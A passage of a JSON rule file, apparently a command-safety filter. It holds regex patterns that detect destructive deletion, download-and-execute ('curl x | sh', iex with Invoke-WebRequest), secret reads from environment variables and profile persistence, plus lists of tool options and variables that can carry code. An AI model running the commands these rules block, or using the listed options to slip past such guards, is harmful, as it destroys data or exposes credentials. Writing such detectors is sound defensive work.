^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Cont\
ent\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bash\
rc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Di\
rectory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\
\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[\
A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|C\
reationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\
\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs\
|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invo\
ke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|\
npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|r\
sync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\
\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPrefe\
rence|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptbloc\
k\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadStr\
ing)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(\
?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env\
:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Comman\
d","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\
\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\
\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\
\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,10\
00}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\
\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-\
ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Obj\
ect|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|c\
lc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-Chil\
dItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n\
]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-]\
[^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\
\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?\
:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b\
(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?\
:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?\
:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\\
w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{\
0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:gi\
t|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|\
supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|I\
nitialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-Store\
dCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-\
Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\\
b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|\
DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadStr\
ing)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{\
"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)\
|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\
\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\\
$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){\
0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\
\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-P\
ath\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\
\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-It\
em|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([\
^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]\
{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get\
-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|\
Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\
\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\
\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;\
|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTi\
me|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"'\
]?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java\
|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\
\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|re\
dis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)\
?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\\
w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolic\
y(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\\
S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscrip\
tblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\
\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|\
-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"wh\
atis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE"\
,"LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYSTE\
MD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"t\
imedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDIT\
OR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUDO\
_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","EDI\
TOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","ED\
ITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"var\
iables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variabl\
es":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["H\
GEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"del\
ta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS"\
]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDITO\
R","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND"\
,"EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","long":["tree-filte\
r","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-filter","msg-fi\
lter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":["\
upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u",\
"upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","exec"],"code":["\
receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}}\
,"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I\
","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"s\
hort":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action",\
"to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpoi\
nt-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-p\
rogram","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eval\
-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":{\
"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short":\
"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","\
H","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},\
"ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-ta\
sk"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\\
t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\
\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\
\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\
\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]\
*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?\
(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME\
|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcol\
lection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|\
ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongod\
b_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.c\
